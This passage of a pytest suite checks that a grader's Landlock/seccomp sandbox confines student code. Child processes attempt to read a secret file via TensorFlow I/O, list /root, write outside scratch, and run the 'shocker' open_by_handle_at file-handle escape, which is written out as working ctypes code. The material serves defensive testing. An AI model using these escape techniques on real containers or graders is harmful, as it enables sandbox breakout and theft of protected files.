                                  keras.layers.Dense(1, activation="sigmoid")])
        model.compile("adam", "binary_crossentropy")
        model.fit(x, y, epochs=1, batch_size=32, verbose=0)
        path = os.path.join(P["scratch"], "x.keras")
        model.save(path)
        again = keras.models.load_model(path)
        diff = float(np.abs(again.predict(x[:8], verbose=0) - model.predict(x[:8], verbose=0)).max())
        return {"diff": diff, "threads": len(os.listdir("/proc/self/task")), "size": os.path.getsize(path)}
    attempt("tf_work", tf_work)
    import tensorflow as tf
    attempt("tf_write_outside", lambda: tf.io.write_file(os.path.join(P["home"], "tf.txt"), "x"))
    attempt("tf_read_secret", lambda: tf.io.read_file(P["secret"]).numpy())
    attempt("tf_data_secret", lambda: [l.numpy() for l in tf.data.TextLineDataset(P["secret"])])
    attempt("tf_gfile_listdir_root", lambda: tf.io.gfile.listdir("/root"))
    attempt("tf_write_scratch", lambda: (tf.io.write_file(os.path.join(P["scratch"], "tf.txt"), "ok"),
                                         open(os.path.join(P["scratch"], "tf.txt")).read())[1])
    """
    res = run_child(world, body, timeout=300, env={"MPLCONFIGDIR": str(world["scratch"] / "mpl")})
    r = eval(succeeded(res, "tf_work")["value"])
    assert r["diff"] == 0.0 and r["size"] > 0 and r["threads"] > 2
    for name in ("tf_write_outside", "tf_read_secret", "tf_data_secret", "tf_gfile_listdir_root"):
        refused(res, name)
    assert succeeded(res, "tf_write_scratch")["value"] == "'ok'"
    assert not (world["home"] / "tf.txt").exists()
    assert all(v.startswith(("applied", "not_needed")) for v in res["status"].values())


# ---------------------------------------------------------------------------------------------
# file handles: the "shocker" escape of a process that keeps CAP_DAC_READ_SEARCH


class _FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]


def _handle_of(path: Path) -> tuple[int, str]:
    """(handle type, handle bytes as hex) of ``path``, from name_to_handle_at in this process."""
    libc = ctypes.CDLL(None, use_errno=True)
    fh, mount_id = _FileHandle(), ctypes.c_int()
    fh.handle_bytes = 128
    if libc.name_to_handle_at(-100, os.fsencode(path), ctypes.byref(fh), ctypes.byref(mount_id), 0) != 0:
        e = ctypes.get_errno()
        pytest.skip(f"this file system gives no file handles ({os.strerror(e)})")
    return fh.handle_type, bytes(fh.f_handle[: fh.handle_bytes]).hex()


HANDLES = r"""
class FH(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]
def by_handle():
    # The secret's handle was made outside the sandbox (a student could brute-force one: inode
    # numbers are small). open_by_handle_at needs CAP_DAC_READ_SEARCH and resolves no path.
    raw = bytes.fromhex(P["handle"])
    fh = FH(); fh.handle_bytes = len(raw); fh.handle_type = P["handle_type"]
    ctypes.memmove(fh.f_handle, raw, len(raw))
    mount_fd = os.open(P["scratch"], os.O_RDONLY)  # any file on the same file system
    fd = libc_call("open_by_handle_at", mount_fd, ctypes.byref(fh), os.O_RDONLY)
    return os.read(fd, 100)
def name_to_handle():
    fh = FH(); fh.handle_bytes = 128; mount_id = ctypes.c_int()
    libc_call("name_to_handle_at", -100, P["scratch"].encode(), ctypes.byref(fh), ctypes.byref(mount_id), 0)
    return fh.handle_type
attempt("open_by_handle_at", by_handle)
attempt("name_to_handle_at", name_to_handle)
attempt("caps", lambda: open("/proc/self/status").read().split("CapEff:")[1].split()[0])
"""


@pytest.mark.skipif(not ROOT, reason="open_by_handle_at needs CAP_DAC_READ_SEARCH, which only a root worker keeps")
def test_file_handle_escape_is_refused(world):
    """A root worker keeps CAP_DAC_READ_SEARCH (the interpreter lies under /root): seccomp must refuse
    name_to_handle_at and open_by_handle_at, which open a file by inode around path-based rules."""
    handle_type, handle = _handle_of(world["secret"])
    extra = {"handle": handle, "handle_type": handle_type}
    control = run_child(world, HANDLES, do_confine=False, extra=extra)
    # The attack is real: outside the sandbox the handle reads the secret.
    assert "TOPSECRET" in succeeded(control, "open_by_handle_at")["value"]
    confined = run_child(world, HANDLES, extra=extra)
    if confined["caps"]:
        assert int(confined["results"]["caps"]["value"].strip("'"), 16) == 1 << 2  # CAP_DAC_READ_SEARCH only
    refused(confined, "open_by_handle_at", {EPERM})
    refused(confined, "name_to_handle_at", {EPERM})
    # Without seccomp (Landlock only, the capability still kept) name_to_handle_at works: the
    # refusals above are the filter's. (Landlock on recent kernels also checks the file that
    # open_by_handle_at opens; the sandbox does not rely on that.)
    ll = run_child(world, HANDLES, kwargs={"skip": ["seccomp"]}, extra=extra)
    assert ll["caps"] == confined["caps"]
    succeeded(ll, "name_to_handle_at")


def test_seccomp_rules_refuse_file_handles():
    names = {rule[0] for rule in C.seccomp_rules(os.getpid())}
    assert {"open_by_handle_at", "name_to_handle_at"} <= names


def test_private_entries_hide_an_installed_copy_of_the_grader(tmp_path, monkeypatch):
    """A checkout's grader still hides a ``pip install .`` copy of itself in site-packages."""
    site = tmp_path / "site"
    (site / "grader").mkdir(parents=True)
    (site / "tfgrader-1.0.dist-info").mkdir()
    (site / "numpy").mkdir()
    monkeypatch.setattr(
        C,
        "distribution_paths",
        lambda name: [str(site / "grader"), str(site / "tfgrader-1.0.dist-info")] if name == C.DISTRIBUTION else [],
    )
    found = {Path(p).name for p in C.private_entries(None, site_dirs=[site])}
    assert {"grader", "tfgrader-1.0.dist-info"} <= found
    assert "numpy" not in found


def test_private_entries_hide_what_names_source_folders(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    for name in (
        "__editable__.pkg-1.0.pth",
        "__editable___pkg_1_0_finder.py",
        "other.pth",
        "x.egg-link",
        "numpy",
        "six.py",
    ):
        (site / name).mkdir() if "." not in name else (site / name).write_text("/somewhere/checkout\n")
    local = site / "pkg-1.0.dist-info"
    local.mkdir()
    (local / "direct_url.json").write_text('{"url": "file:///somewhere/checkout", "dir_info": {"editable": true}}')
    index = site / "numpy-2.0.dist-info"
    index.mkdir()
    (site / "mypkg").mkdir()
    (tmp_path / "pyproject.toml").write_text("")
    found = {Path(p).name for p in C.private_entries(site / "mypkg", site_dirs=[site]) if Path(p).parent == site}
    assert found == {
        "__editable__.pkg-1.0.pth",
        "__editable___pkg_1_0_finder.py",
        "other.pth",
        "x.egg-link",
        "pkg-1.0.dist-info",
        "mypkg",
    }
    # A package outside every granted folder needs no exclusion (nothing grants it).
    elsewhere = tmp_path / "checkout" / "mypkg"
    elsewhere.mkdir(parents=True)
    assert str(elsewhere) not in C.private_entries(elsewhere, site_dirs=[site])
